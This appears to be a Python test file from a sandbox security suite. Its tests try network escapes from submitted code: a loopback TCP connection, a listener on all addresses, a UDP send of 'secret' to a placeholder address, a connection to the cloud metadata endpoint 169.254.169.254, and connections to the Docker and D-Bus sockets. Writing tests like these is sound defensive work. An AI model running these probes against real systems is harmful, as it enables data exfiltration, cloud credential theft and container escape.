"""Attacks that need a network: each function is right only if it could make its connection.

If only the lack of a network prevented a connection (ENETUNREACH, no name server), it counts as made.
"""

from __future__ import annotations

from tests.security.payload import Attacks, Submission

attack = Attacks("network")
_SENDS = """
import errno, socket
try:
    {statement}
except OSError as error:
    return error.errno in (errno.ENETUNREACH, errno.ECONNREFUSED, errno.EHOSTUNREACH, socket.EAI_AGAIN)
return True
"""


@attack()
def connection(it: Submission) -> None:
    """A TCP connection."""
    it.finds("""
        import socket
        server = socket.create_server(("127.0.0.1", 0))
        client = socket.create_connection(server.getsockname(), timeout=2)
        client.sendall(b"answers, please")
        return server.accept()[0].recv(100) == b"answers, please"
        """)


@attack()
def open_port(it: Submission) -> None:
    """A server on all addresses."""
    it.finds("import socket\nserver = socket.create_server(('0.0.0.0', 0))\nreturn server.getsockname()[1] > 0")


@attack()
def name_lookup(it: Submission) -> None:
    """A query to a name server."""
    statement = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('203.0.113.1', 53))"
    it.finds(_SENDS.format(statement=statement))


@attack()
def metadata_address(it: Submission) -> None:
    """A cloud's metadata address."""
    statement = "socket.create_connection(('169.254.169.254', 80), timeout=1)"
    it.finds(_SENDS.format(statement=statement))


@attack()
def abstract_socket(it: Submission) -> None:
    """An abstract Unix socket."""
    it.finds("""
        import socket
        server = socket.socket(socket.AF_UNIX)
        server.bind("\\0weightlab-attack")
        server.listen()
        socket.socket(socket.AF_UNIX).connect("\\0weightlab-attack")
        return True
        """)


@attack()
def socket_in_a_file(it: Submission) -> None:
    """Unix sockets in files."""
    it.finds("""
        import os, socket
        for path in ("/run/dbus/system_bus_socket", "/var/run/docker.sock"):
            try:
                socket.socket(socket.AF_UNIX).connect(path)
                return True
            except OSError:
                pass
        path = f"/tmp/weightlab-was-here-{os.getpid()}.sock"
        server = socket.socket(socket.AF_UNIX)
        server.bind(path)
        os.unlink(path)
        return True
        """)
